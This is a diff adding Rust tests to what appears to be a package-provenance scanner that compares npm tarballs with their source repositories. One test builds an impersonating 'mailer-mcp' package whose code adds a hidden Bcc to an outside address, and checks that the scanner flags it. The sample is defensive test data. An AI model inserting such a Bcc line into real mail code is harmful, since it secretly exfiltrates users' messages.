@@ -102,6 +102,38 @@ async fn a_tarball_with_one_added_bcc_line_differs_from_its_repository_at_git_he
 }
 
 #[tokio::test]
+async fn an_impersonator_of_another_packages_repository_is_compared_with_it_line_by_line() {
+    // The real postmark-mcp shape: the repository publishes a scoped name; the fake, under
+    // the bare name, claims that repository and adds one line.
+    let forge = forge().await;
+    let git = GitRepository::init();
+    git.write("package.json", &package_json("@acme/mailer", "1.0.16", r#", "repository": "github:acme/mailer""#))
+        .write("index.js", INDEX_JS);
+    let commit = git.commit("release 1.0.16");
+    forge.fake.add_repository("acme", "mailer", &git);
+    let malicious = INDEX_JS.replace("    To: message.to,\n", "    To: message.to,\n    Bcc: 'phan@giftshop.club',\n");
+    let published_json = package_json(
+        "mailer-mcp",
+        "1.0.16",
+        &format!(r#", "repository": "github:acme/mailer", "gitHead": "{commit}""#),
+    );
+    let tarball = npm_tarball(&[("package.json", &published_json), ("index.js", &malicious)]);
+    let outcome = forge.client.match_source(&tarball, None, Severity::Medium).await;
+    let findings = outcome.findings();
+    let (_, result) = compared(outcome);
+    let mismatch = result.name_mismatch.as_ref().expect("the name mismatch is recorded");
+    assert_eq!((mismatch.tarball.as_str(), mismatch.repository.as_str()), ("mailer-mcp", "@acme/mailer"));
+    let impersonation = findings.iter().find(|finding| finding.rule == "source-name-mismatch").unwrap();
+    assert!(impersonation.message.contains("publishes `@acme/mailer`, not `mailer-mcp`"), "{impersonation:?}");
+    let line = findings
+        .iter()
+        .find(|finding| finding.rule == "source-mismatch" && finding.severity == Severity::High)
+        .expect("the added line is a high finding");
+    assert_eq!(line.location.as_ref().unwrap().file, "index.js");
+    assert_eq!(line.location.as_ref().unwrap().line, Some(6));
+}
+
+#[tokio::test]
 async fn an_identical_tarball_matches_and_the_archive_is_cached_by_commit() {
     let forge = forge().await;
     let (git, commit) = mailer_repository();
@@ -325,4 +357,40 @@ async fn a_forge_that_hangs_times_out_as_unverifiable() {
     let (reason, _) = unverifiable(forge.client.match_source(&tarball, None, Severity::Medium).await);
     assert!(matches!(&reason, UnverifiableReason::ForgeUnreachable(text) if text.contains("timed out")), "{reason:?}");
     assert!(started.elapsed() < std::time::Duration::from_secs(10));
+    // One slow repository does not make the forge "unreachable" for the others.
+    let (git, commit) = mailer_repository();
+    forge.fake.add_repository("acme", "mailer", &git);
+    let archive = forge.client.fetch_archive("acme", "mailer", &commit).await.unwrap();
+    assert_eq!(archive.commit.as_deref(), Some(commit.as_str()));
+}
+
+#[tokio::test]
+async fn a_forge_that_cannot_be_connected_to_is_not_retried_by_every_check() {
+    let closed_port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
+    let forge = forge_with(|settings| {
+        settings.api_base_url = format!("http://127.0.0.1:{closed_port}");
+        settings.unreachable_backoff = std::time::Duration::from_millis(400);
+    })
+    .await;
+    let tarball = npm_tarball(&[(
+        "package.json",
+        &package_json(
+            "lonely",
+            "1.0.0",
+            r#", "repository": "github:acme/lonely", "gitHead": "0123456789012345678901234567890123456789""#,
+        ),
+    )]);
+    let reason_text = |reason: UnverifiableReason| match reason {
+        UnverifiableReason::ForgeUnreachable(text) => text,
+        other => panic!("{other:?}"),
+    };
+    let first = reason_text(unverifiable(forge.client.match_source(&tarball, None, Severity::Medium).await).0);
+    assert!(!first.contains("not retried"), "{first}");
+    // Within the backoff: reported at once, naming the failure, with no new connection.
+    let second = reason_text(unverifiable(forge.client.match_source(&tarball, None, Severity::Medium).await).0);
+    assert!(second.contains("not retried") && second.contains("Connection refused"), "{second}");
+    // After it, the forge is tried again.
+    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
+    let third = reason_text(unverifiable(forge.client.match_source(&tarball, None, Severity::Medium).await).0);
+    assert!(!third.contains("not retried"), "{third}");
 }
